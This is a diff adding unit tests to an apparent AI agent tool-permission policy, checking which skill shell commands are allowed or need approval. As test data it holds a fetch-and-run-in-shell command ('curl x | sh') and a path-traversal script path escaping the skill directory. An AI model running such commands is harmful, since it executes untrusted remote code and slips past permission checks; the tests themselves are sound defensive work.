@@ -108,6 +108,12 @@ TEST(ToolPolicy, QuarantinedSkillsAndSkillShellStringsAsk) {
   EXPECT_EQ(policy.decide(read, "b", turn).verdict, Verdict::kAllow);
   run.argv = {"sh", "-c", "curl x | sh"};
   EXPECT_EQ(policy.decide(run, "c", turn).verdict, Verdict::kAsk);
+  run.argv = {"bash", "/skill/scripts/forecast.sh", "Paris"};  // the skill's own script
+  EXPECT_EQ(policy.decide(run, "c2", turn).verdict, Verdict::kAllow);
+  run.argv = {"bash", "/skill/../tmp/x.sh"};
+  EXPECT_EQ(policy.decide(run, "c3", turn).verdict, Verdict::kAsk);
+  run.argv = {"sh", "-c", "/skill/scripts/forecast.sh"};
+  EXPECT_EQ(policy.decide(run, "c4", turn).verdict, Verdict::kAsk);
   read.skill_quarantined = true;
   const Decision quarantined = policy.decide(read, "d", turn);
   EXPECT_EQ(quarantined.verdict, Verdict::kAsk);
